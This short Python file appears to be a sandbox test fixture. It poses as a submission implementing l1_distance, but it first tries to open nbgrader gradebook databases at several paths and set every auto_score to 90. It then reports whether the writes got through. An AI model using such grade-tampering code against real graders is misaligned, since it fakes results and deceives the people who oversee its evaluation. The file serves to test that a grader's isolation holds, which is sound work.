"""Gives itself full marks in nbgrader's database."""
# expect: lost=l1_distance says=held

import sqlite3

found = []
for path in ("@CANARY@/gradebook.db", "@COURSE@/gradebook.db", "../gradebook.db", "/srv/nbgrader/gradebook.db"):
    for uri in (f"file:{path}?mode=rw", f"file:{path}?mode=rwc&nolock=1"):
        try:
            db = sqlite3.connect(uri, uri=True, timeout=0.2)
            db.execute("update grade set auto_score = 90")
            db.commit()
            found.append(path)
        except sqlite3.Error:
            pass


def l1_distance(I1, I2):
    raise RuntimeError("BREACH: " + "; ".join(found) if found else "held")
